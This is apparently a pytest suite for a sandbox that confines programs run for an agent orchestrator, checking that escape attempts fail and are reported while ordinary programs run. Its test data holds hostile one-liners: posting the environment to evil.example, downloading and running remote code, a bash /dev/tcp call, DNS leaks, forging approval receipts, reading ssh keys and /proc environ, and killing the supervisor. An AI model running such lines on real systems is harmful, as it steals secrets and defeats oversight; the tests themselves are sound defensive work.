"""Programs that are run for a proof: what they must not do, what is reported, what they may do."""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from orchestrate_agents.sandbox.runs import TRIED, Run, run, tree_copy
from orchestrator.agent_process.confinement import Ability, Confinement, ability

pytestmark = pytest.mark.skipif(
    not ability().namespaces, reason="this system allows no namespaces, so nothing is told"
)

SWALLOWED = (
    "import contextlib, os, socket, subprocess, sys\nwith contextlib.suppress(BaseException):\n"
)
DETACHED = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 64)
        time.sleep(60)
    os._exit(0)
os.wait()
"""


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    (tmp_path / "board/.receipts").mkdir(parents=True)
    (tmp_path / "board/.receipts/WO-1.jsonl").write_text("{}\n")
    (tmp_path / "board/WO-1.md").write_text("status: NEW\n")
    (tmp_path / ".git/hooks").mkdir(parents=True)
    (tmp_path / ".env").write_text("KEY=of-the-workspace\n")
    (tmp_path / "app.py").write_text("VALUE = 1\n")
    return tmp_path


def run_python(root: Path, text: str, **options: object) -> Run:
    with tree_copy(root) as copy:
        (copy / "program.py").write_text(text)
        words = [sys.executable, "program.py"]
        return run(words, cwd=copy, apart_from=root, limit=60, **options)  # type: ignore[arg-type]


#: what is tried, without a word → what of it is told
TOLD = {
    "posts the environment": (
        "    import urllib.request\n    urllib.request.urlopen('http://evil.example/c',"
        " data=repr(os.environ).encode())",
        "tried to reach evil.example",
    ),
    "downloads code": (
        "    import urllib.request\n    exec(urllib.request.urlopen('https://1.2.3.4/x.py').read())",
        "tried to reach 1.2.3.4:443",
    ),
    "sends a datagram": (
        "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 99))",
        "tried to reach 8.8.8.8:99",
    ),
    "sends what is not a question to a name server's port": (
        "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('8.8.8.8', 53))",
        "tried to reach 8.8.8.8:53",
    ),
    "asks for a name that holds what it knows": (
        "    socket.getaddrinfo('c2VjcmV0.collect.example.net', 80)",
        "tried to reach c2vjcmv0.collect.example.net",
    ),
    "takes the new protocol": (
        "    socket.create_connection(('2001:4860::1', 443), 2)",
        "tried to reach [2001:4860::1]:443",
    ),
    "lets a shell do it": (
        "    subprocess.run(['bash', '-c', 'echo x > /dev/tcp/5.6.7.8/80'], stderr=-3)",
        "tried to reach 5.6.7.8:80",
    ),
    "approves a ticket": (
        "    open('{root}/board/WO-1.md', 'w').write('status: APPROVED')",
        "wrote to {root}/board/WO-1.md, outside of its folder",
    ),
    "forges a receipt": (
        "    open('{root}/board/.receipts/WO-1.jsonl', 'a').write('forged')",
        "wrote to {root}/board/.receipts/WO-1.jsonl, outside of its folder",
    ),
    "removes a receipt": (
        "    os.remove('{root}/board/.receipts/WO-1.jsonl')",
        "wrote to {root}/board/.receipts/WO-1.jsonl, outside of its folder",
    ),
    "writes a hook": (
        "    open('{root}/.git/hooks/post-commit', 'w').write('#!/bin/sh')",
        "wrote to {root}/.git/hooks/post-commit, outside of its folder",
    ),
    "writes beside its folder": ("    open('../outside', 'w').write('x')", "wrote to "),
    "writes into a home": (
        "    import pwd\n    home = pwd.getpwuid(os.getuid()).pw_dir\n"
        "    open(home + '/.profile-x', 'w').write('x')",
        ".profile-x, outside of its folder",
    ),
    "writes into the system": (
        "    open('/opt/evil', 'w').write('x')",
        "wrote to /opt/evil, outside of its folder",
    ),
    "leaves a daemon": (f"    exec({DETACHED!r})", "left `"),
}  # fmt: skip


@pytest.mark.parametrize("what", TOLD)
def test_what_a_program_tries_is_told_and_fails(workspace: Path, what: str) -> None:
    text, told = TOLD[what]
    before = {p: p.read_bytes() for p in workspace.rglob("*") if p.is_file()}
    ended = run_python(workspace, SWALLOWED + text.replace("{root}", str(workspace)))
    assert not ended.ok
    assert ended.code == TRIED
    assert any(told.replace("{root}", str(workspace)) in one for one in ended.tried), ended
    assert told.replace("{root}", str(workspace)) in ended.ending
    assert ended.to_dict()["tried"] == list(ended.tried)
    assert {p: p.read_bytes() for p in workspace.rglob("*") if p.is_file()} == before


#: what is tried and must come to nothing: the program ends well if it does
WALLS = {
    "reads the workspace's keys": "print(open('{root}/.env').read())",
    "reads another process's environment": (
        "import glob\n"
        "for f in glob.glob('/proc/[0-9]*/environ'):\n"
        "    if f.split('/')[2] != str(os.getpid()): print(open(f).read())"
    ),
    "reads keys of a home": "print(open('{home}/.ssh/id_test').read())",
    "reads the signing key": "print(open('{key}').read())",
    "asks a server of this machine": (
        "print(socket.create_connection(('127.0.0.1', {port})).recv(99).decode())"
    ),
    "asks a socket of this machine": (
        "s = socket.socket(socket.AF_UNIX)\ns.connect('{socket}')\nprint(s.recv(99).decode())"
    ),
    "reads others' temporary files": "print(open('{temporary}').read())",
    "takes another network": (
        "import ctypes\n"
        "fd = os.open('/proc/1/ns/net', 0)\n"
        "if ctypes.CDLL(None).setns(fd, 0) == 0: print('secret')"
    ),
    "mounts over its walls": (
        "import ctypes\nif ctypes.CDLL(None).mount(b'x', b'/mnt', b'tmpfs', 0, None) == 0:"
        " print('secret')"
    ),
}


@pytest.mark.parametrize("what", WALLS)
def test_what_a_program_must_not_have_it_has_not(
    workspace: Path, what: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = Path(pwd.getpwuid(os.getuid()).pw_dir)
    with contextlib.ExitStack() as stack:
        aside = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="others-")))
        places = {name: aside / name for name in ("key", "temporary")}
        for place in places.values():
            place.write_text("secret")
        monkeypatch.setenv("ORCHESTRATE_SIGNING_KEY", str(places["key"]))
        monkeypatch.setenv("OF_THE_ENGINE", "secret")
        if "home" in what:
            made = not (home / ".ssh").exists()
            (home / ".ssh").mkdir(exist_ok=True)
            (home / ".ssh/id_test").write_text("secret")
            stack.callback(lambda: shutil.rmtree(home / ".ssh") if made else None)
            stack.callback((home / ".ssh/id_test").unlink)
        server = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        local = stack.enter_context(socket.socket(socket.AF_UNIX))
        local.bind(str(aside / "socket"))
        local.listen()
        text = SWALLOWED + "".join(f"    {line}\n" for line in WALLS[what].splitlines())
        known = {**places, "root": workspace, "home": home, "socket": aside / "socket"}
        for name, value in {**known, "port": server.getsockname()[1]}.items():
            text = text.replace(f"{{{name}}}", str(value))
        ended = run_python(workspace, text)
    assert "secret" not in ended.text
    assert "of-the-workspace" not in ended.text
    assert ended.ok, ended


def test_whoever_watches_cannot_be_ended_or_answered_for(workspace: Path) -> None:
    text = SWALLOWED.replace("BaseException", "OSError") + (
        "    os.kill(os.getppid(), 9)\n    os.kill(-1, 9)\n"
        "for fd in range(3, 99):\n"
        "    with contextlib.suppress(OSError): os.write(fd, b'{\"apart\": true}')\n"
        "open('/opt/evil', 'w').write('x')\n"
    )
    assert run_python(workspace, text).tried == ("wrote to /opt/evil, outside of its folder",)


HONEST = {
    "temporary files": (
        "import tempfile\nwith tempfile.NamedTemporaryFile('w') as f: f.write('x')\n"
        "open('/tmp/mine', 'w').write('x')"
    ),
    "its home": "from pathlib import Path\n(Path.home() / '.toolrc').write_text('x')",
    "its folder": "open('out.txt', 'w').write('x')",
    "a database": (
        "import sqlite3\nc = sqlite3.connect('x.db')\nc.execute('CREATE TABLE t (a)')\nc.commit()"
    ),
    "a server of its own": (
        "import http.server, threading, urllib.request\n"
        "s = http.server.HTTPServer(('localhost', 0), http.server.SimpleHTTPRequestHandler)\n"
        "threading.Thread(target=s.serve_forever, daemon=True).start()\n"
        "urllib.request.urlopen(f'http://localhost:{s.server_port}/').read()"
    ),
    "other programs": (
        "import subprocess, sys\n"
        "assert subprocess.run([sys.executable, '-c', 'print(1)'], capture_output=True).stdout"
    ),
    "several processes": (
        "import multiprocessing\n"
        "if __name__ == '__main__':\n"
        "    with multiprocessing.Pool(2) as p: assert p.map(abs, [-1]) == [1]\n"
        "    multiprocessing.Queue().put(1)"
    ),
    "a socket": (
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('own.sock')\ns.listen()\n"
        "socket.socket(socket.AF_UNIX).connect('own.sock')"
    ),
    "addresses of nobody": (
        "import socket\n"
        "for where in (('192.0.2.1', 80), ('nobody.invalid', 80)):\n"
        "    try: socket.create_connection(where, 2)\n    except OSError: pass"
    ),
    "its own address, asked for the usual way": (
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.connect(('8.8.8.8', 80))\ns.getsockname()"
    ),
    "a child that ends after it": (
        "import subprocess\nsubprocess.Popen(['sleep', '0.2'])"
    ),
    "who it is": "import getpass, socket\ngetpass.getuser(), socket.gethostname()",
    "random numbers and no output": (
        "import os\nopen('/dev/null', 'w').write('x'), open('/dev/urandom', 'rb').read(4)"
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", HONEST)
def test_an_honest_program_is_not_disturbed(workspace: Path, what: str) -> None:
    ended = run_python(workspace, HONEST[what])
    assert ended.ok, ended


def test_a_program_that_leaves_something_by_its_nature_is_not_blamed(workspace: Path) -> None:
    assert run_python(workspace, DETACHED, leaves=True).ok


def test_a_program_reaches_the_servers_that_it_is_given(workspace: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        text = f"import socket\nsocket.create_connection(('127.0.0.1', {port}), 5)"
        assert not run_python(workspace, text).ok
        assert run_python(workspace, text, ports=[port]).ok


# -- another user, and machines that allow less ----------------------------------------------------


@pytest.fixture
def plain_user() -> Iterator[str]:
    if os.getuid() != 0 or not shutil.which("useradd"):
        pytest.skip("only root can be another user")
    name = "orchestrate-test"
    subprocess.run(["useradd", "-m", name], check=False, capture_output=True)
    yield name
    subprocess.run(["userdel", "-r", name], check=False, capture_output=True)


def start(
    walls: Confinement, program: str, folder: Path, user: str | None = None
) -> tuple[int, str]:
    with walls:
        words = walls.words(["/bin/sh", "-c", program])
        done = subprocess.run(
            [shutil.which("python3", path="/usr/bin:/bin") or sys.executable, *words[1:]],
            cwd=folder,
            user=user,
            group=user,
            extra_groups=None if user is None else [],
            pass_fds=walls.fds,
            capture_output=True,
            text=True,
            timeout=60,
        )
        return done.returncode, done.stdout + done.stderr + "; ".join(walls.tried())


def test_a_plain_user_is_confined_the_same(plain_user: str) -> None:
    if not shutil.which("python3", path="/usr/bin:/bin"):
        pytest.skip("Python is where another user cannot read it")
    with (
        tempfile.TemporaryDirectory() as folder,
        tempfile.TemporaryDirectory(dir="/var/tmp") as tool,
    ):
        for name in ("confine.py", "landlock.py", "own_files.py", "own_network.py"):
            shutil.copy(Path(sys.modules["orchestrator"].__path__[0], "agent_process", name), tool)
        place = Path(folder)
        for one in (place, Path(tool)):
            one.chmod(0o755)
        os.chown(place, pwd.getpwnam(plain_user).pw_uid, -1)
        walls = Confinement([place], [tool])
        os.chown(walls._said["scratch"], pwd.getpwnam(plain_user).pw_uid, -1)
        words = walls.words
        walls.words = lambda c: [*words(c)[:3], f"{tool}/confine.py", *words(c)[4:]]  # type: ignore[method-assign]
        program = f"echo a > in; echo b > /home/{plain_user}/x; getent hosts evil.example; id -u"
        code, said = start(walls, program, place, plain_user)
        assert code == 0, said
        assert (place / "in").exists()
        assert not Path(f"/home/{plain_user}/x").exists()
        assert f"/home/{plain_user}/x" in said
        assert "evil.example" in said


def test_landlock_alone_keeps_keys_and_files(tmp_path: Path) -> None:
    """What holds where namespaces are not allowed."""
    if ability().landlock < 2:
        pytest.skip("no Landlock")
    for name in ("own", "hidden"):
        (tmp_path / name).mkdir()
    (tmp_path / "hidden/key").write_text("secret")
    (tmp_path / "read").write_text("readable")
    program = (
        "import sys\nsys.path.insert(0, sys.argv[1])\nimport landlock, os\n"
        "landlock.landlock([sys.argv[2] + '/own', '/dev'], [sys.argv[2] + '/hidden'], [])\n"
        "os.system('cat hidden/key; cat read; echo x > own/a; echo x > b; mv own/a own/c;"
        " cat /proc/$PPID/environ /proc/1/environ')\n"
    )
    folder = str(Path(sys.modules["orchestrator"].__path__[0], "agent_process"))
    done = subprocess.run(
        [sys.executable, "-c", program, folder, str(tmp_path)],
        cwd=tmp_path, capture_output=True, text=True,
    )  # fmt: skip
    assert "readable" in done.stdout
    assert (tmp_path / "own/c").exists()
    assert not (tmp_path / "b").exists()
    assert "cat: /proc/1/environ: Permission denied" in done.stderr
    assert "cat: hidden/key: Permission denied" in done.stderr


@pytest.mark.parametrize(
    ("able", "words"),
    [
        (Ability(7, True, ""), "without network"),
        (Ability(7, False, "/usr/bin/bwrap"), "not reported"),
        (Ability(7, False, ""), "the network is open"),
        (Ability(0, False, ""), "nothing confines programs here"),
    ],
)
def test_what_a_machine_cannot_do_is_said(able: Ability, words: str) -> None:
    assert words in able.sentence
    assert able.is_whole is able.namespaces


def test_a_report_names_everything(workspace: Path) -> None:
    ended = run_python(workspace, "open('/opt/a', 'w').write('x')\nimport sys\nsys.exit(3)")
    assert ended.code == TRIED
    assert json.dumps(ended.to_dict())


@pytest.mark.skipif(not ability().bubblewrap, reason="bubblewrap is not installed")
def test_bubblewrap_takes_the_place_of_namespaces(tmp_path: Path) -> None:
    own, other = tmp_path / "own", tmp_path / "other"
    own.mkdir()
    other.write_text("secret")
    with Confinement([own]) as walls:
        words = [*walls._said["bubblewrap"], "--chdir", str(own), "--"]
        program = (
            f"cat {other} /proc/1/environ; echo a > in; echo b > /opt/out; getent hosts a.example"
        )
        done = subprocess.run([*words, "sh", "-c", program], capture_output=True, text=True)
    assert (own / "in").exists(), done.stderr
    assert "secret" not in done.stdout
    assert not Path("/opt/out").exists()
